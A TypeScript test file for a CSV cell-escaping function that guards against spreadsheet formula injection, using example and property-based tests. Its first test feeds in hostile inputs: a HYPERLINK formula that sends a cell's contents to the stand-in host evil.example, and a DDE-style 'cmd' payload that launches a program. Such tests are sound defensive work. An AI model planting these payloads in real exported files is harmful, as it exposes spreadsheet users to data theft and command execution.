import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell, csvLine, neutraliseCsvText } from './csv-cell';

/** What a spreadsheet reads from one cell: the quotes taken off. */
const unquote = (cell: string) => (cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell);

describe('csvCell', () => {
  it('neutralises a cell a spreadsheet would run as a formula (OWASP: = + - @ tab CR)', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?"&A1,"Kliknij")')).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""Kliknij"")"`);
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+48 600 100 200')).toBe("'+48 600 100 200");
    expect(csvCell('-2+3+cmd|\' /C calc\'!A0')).toBe("'-2+3+cmd|' /C calc'!A0");
    expect(csvCell('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(csvCell('\t=1+1')).toBe("'\t=1+1");
    expect(csvCell('\r=1+1')).toBe(`"'\r=1+1"`);
  });

  it('keeps numbers as numbers: a lone number runs nothing', () => {
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(66.7)).toBe('66.7');
    expect(csvCell('-5')).toBe('-5');
    expect(csvCell('+1.5')).toBe('+1.5');
    expect(csvCell('-2e3')).toBe('-2e3');
    // More after the number: a formula.
    expect(csvCell('-5+A1')).toBe("'-5+A1");
    expect(csvCell('-5 ')).toBe("'-5 ");
    expect(csvCell(-Infinity)).toBe("'-Infinity");
  });

  it('quotes what needs it, and everything when asked', () => {
    expect(csvCell('Legia, Warszawa')).toBe('"Legia, Warszawa"');
    expect(csvCell('Lech; Poznań')).toBe('"Lech; Poznań"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('dwa\nwiersze')).toBe('"dwa\nwiersze"');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined, { quoteAll: true })).toBe('""');
    expect(csvCell('Łódź', { quoteAll: true })).toBe('"Łódź"');
    expect(csvCell({ a: '=1' })).toBe('"{""a"":""=1""}"');
    expect(csvLine(['=x', 1, null, 'a,b'])).toBe(`'=x,1,,"a,b"`);
  });

  it('never leaves a cell that starts like a formula, unless it is a plain number', () => {
    const start = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '', ' ', 'a', '"', "'");
    fc.assert(
      fc.property(start, fc.string(), fc.boolean(), (first, rest, quoteAll) => {
        const read = unquote(csvCell(first + rest, { quoteAll }));
        expect(!/^[=+\-@\t\r]/.test(read) || /^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/.test(read)).toBe(true);
        // Nothing is lost: the text is what was given, with at most a leading quote.
        expect([first + rest, `'${first}${rest}`]).toContain(read);
      }),
    );
    expect(neutraliseCsvText('Ala')).toBe('Ala');
  });
});
